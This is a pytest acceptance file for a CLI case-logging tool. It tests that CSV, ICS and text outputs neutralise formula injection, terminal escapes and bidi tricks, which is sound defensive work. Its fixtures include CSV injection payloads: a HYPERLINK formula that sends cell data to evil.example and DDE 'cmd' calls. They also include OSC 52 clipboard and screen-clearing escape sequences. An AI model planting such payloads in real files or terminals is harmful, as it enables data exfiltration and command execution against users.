"""Acceptance, issue 10 §3 (CLI side): stored text is data, never a formula, markup or terminal
control.

- CSV export: every cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, TAB, CR, NUL
  first: OWASP "CSV Injection") is neutralised, in every column the text can reach (subject,
  profile, marketplace, currency, Seller Central id, identifiers, the "invalid" column), while
  plain numbers stay numbers and the JSON export stays exact.
- ICS export: no NUL, ESC, DEL or C1 control in any property.
- Text output of commands the builders' suite does not feed hostile values into: ``log due``,
  ``log stats`` (profile, type, marketplace, currency from the log), ``scan`` warnings quoting a
  bad cell, the header of an unknown report, a hostile template *file name* in
  ``templates list/check/show``.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar

from casewriter.paths import AppPaths
from casewriter.store import CaseStore
from tests.conftest import SAMPLES
from tests.hostile import RAW_CONTROL, assert_no_raw_control
from tests.test_store import make_case

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=1+1\n",
]
SPREADSHEET_RUNS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def _is_plain_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return cell.strip() == cell and "e" not in cell.lower() and cell[-1:].isdigit()


@pytest.fixture
def hostile_log(home: Path) -> Path:
    now = datetime.now(UTC)
    with CaseStore.open(AppPaths.under(home)) as store:
        for n, formula in enumerate(FORMULAS):
            case = store.save_new(
                make_case(
                    subject=formula,
                    profile=formula,
                    identifiers=[("removal_order_id", f"=1+{n}")],
                    expected_amount=Decimal("-0") if n == 0 else Decimal("24.99"),
                    currency="USD",
                )
            )
            store.set_follow_up(case.id, now + timedelta(hours=n + 1))
    conn = sqlite3.connect(home / "cases.db")
    conn.execute("UPDATE cases SET currency = '=1+1', marketplace = '@US' WHERE id = 1")
    conn.execute("UPDATE cases SET sc_case_id = '-1+1', follow_up_at = '=9+9' WHERE id = 2")
    conn.commit()
    conn.close()
    return home


def test_csv_export_neutralises_every_formula_cell(cli: Any, hostile_log: Path) -> None:
    res = cli("log", "export", "--format", "csv")
    assert res.code == 0, res
    rows = list(csv.reader(io.StringIO(res.out.lstrip("\ufeff"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(SPREADSHEET_RUNS):
                assert _is_plain_number(cell), f"{column} would run in a spreadsheet: {cell!r}"
    subjects = [row[header.index("subject")] for row in body]
    # (the cli fixture reads stdout with universal newlines: a CR arrives as LF)
    assert sorted(s.lstrip("'") for s in subjects) == sorted(
        f.replace("\r", "\n") for f in FORMULAS
    )
    amounts = [row[header.index("expected_amount")] for row in body]
    assert "24.99" in amounts  # numbers stay numbers


def test_json_export_stays_exact(cli: Any, hostile_log: Path) -> None:
    res = cli("log", "export")
    assert res.code == 0, res
    subjects = sorted(c["subject"] for c in json.loads(res.out)["cases"])
    assert subjects == sorted(FORMULAS)


def test_ics_export_holds_no_control_character(cli: Any, home: Path) -> None:
    now = datetime.now(UTC)
    with CaseStore.open(AppPaths.under(home)) as store:
        case = store.save_new(
            make_case(
                subject="nul \x00 esc \x1b]52;c;ZXZpbA==\x07 c1 \x9b2J del \x7f 中文 📦",
                deadline_closes=(now + timedelta(days=5)).date(),
            )
        )
        store.set_follow_up(case.id, now + timedelta(hours=3))
    res = cli("log", "export", "--format", "ics")
    assert res.code == 0, res
    text = res.out.replace("\r\n", "\n")
    assert RAW_CONTROL.search(text.replace("\n", "")) is None, repr(text[:400])
    cal = Calendar.from_ical(res.out)
    summaries = [str(c["summary"]) for c in cal.walk() if c.name in ("VTODO", "VEVENT")]
    assert len(summaries) == 2 and all("中文 📦" in s for s in summaries), summaries


def test_due_and_stats_show_hostile_log_values_as_escapes(cli: Any, home: Path) -> None:
    now = datetime.now(UTC)
    with CaseStore.open(AppPaths.under(home)) as store:
        case = store.save_new(
            make_case(
                subject="due \x1b]52;c;ZXZpbA==\x1b\\ [/] \u202eevil",
                profile="shop \x1b[2J",
                deadline_closes=(now + timedelta(days=2)).date(),
            )
        )
        store.set_follow_up(case.id, now - timedelta(hours=1))
    conn = sqlite3.connect(home / "cases.db")
    conn.execute("UPDATE cases SET case_type = 'type\x9b2J', currency = 'U\x07SD' WHERE id = 1")
    conn.commit()
    conn.close()
    for args in (("log", "due"), ("log", "stats"), ("log", "stats", "--profile", "shop \x1b[2J")):
        res = cli(*args)
        assert res.code == 0, (args, res)
        assert_no_raw_control(res.out, f"stdout of {args}")
        assert_no_raw_control(res.err, f"stderr of {args}")
    due = cli("log", "due").out
    assert "due \\x1b]52;c;ZXZpbA==\\x1b\\ [/] \\u202eevil" in due
    assert "type\\x9b2J" in cli("log", "stats").out


def test_scan_warnings_and_errors_quote_report_cells_as_escapes(cli: Any, tmp_path: Path) -> None:
    lines = (SAMPLES / "FBA_INBOUND_SHIPMENT_ITEMS.tsv").read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace("2026-04-02", "\x1b[2J2026\x9b-04-02")
    lines[2] = lines[2].replace("\t48\t48\t", "\t4\x1b]52;c;eA==\x078\t48\t")
    report = tmp_path / "inbound.tsv"
    report.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = cli("scan", str(report), "--as-of", "2026-05-01")
    assert res.code == 0, res
    assert_no_raw_control(res.err, "scan warnings")
    assert "'\\x1b[2J2026\\x9b-04-02'" in res.err and "'4\\x1b]52;c;eA==\\x078'" in res.err
    unknown = tmp_path / "unknown.tsv"
    unknown.write_text("Date\x1b]52;c;eA==\x07\tFNSKU\n1\t2\n", encoding="utf-8")
    res = cli("scan", str(unknown))
    assert res.code == 2 and res.err.count("\n") == 1, res
    assert_no_raw_control(res.err, "unknown report")
    assert "Date\\x1b]52;c;eA==\\x07" in res.err


def test_template_file_names_are_shown_as_escapes(cli: Any, home: Path) -> None:
    name = "evil\x1b]52;c;ZXZpbA==\x07\u202e.md.j2"
    folder = home / "templates"
    folder.mkdir()
    (folder / name).write_text("x {{ \x1b[2J }}\n", encoding="utf-8")
    shown = "evil\\x1b]52;c;ZXZpbA==\\x07\\u202e.md.j2"
    for args in (("templates", "list"), ("templates", "check"), ("templates", "show", name)):
        res = cli(*args)
        assert "Traceback" not in res.err and "internal error" not in res.err, res
        assert_no_raw_control(res.out, f"stdout of {args}")
        assert_no_raw_control(res.err, f"stderr of {args}")
        assert shown in res.out + res.err, args


def test_bidi_marks_and_line_separators_are_shown_as_escapes(cli: Any, home: Path) -> None:
    with CaseStore.open(AppPaths.under(home)) as store:
        store.save_new(
            make_case(subject="total \u200f1-2\u200e alm \u061c ls \u2028 ps \u2029 end")
        )
    res = cli("log", "show", "1")
    assert res.code == 0, res
    for raw in ("\u200e", "\u200f", "\u061c", "\u2028", "\u2029"):
        assert raw not in res.out, repr(raw)
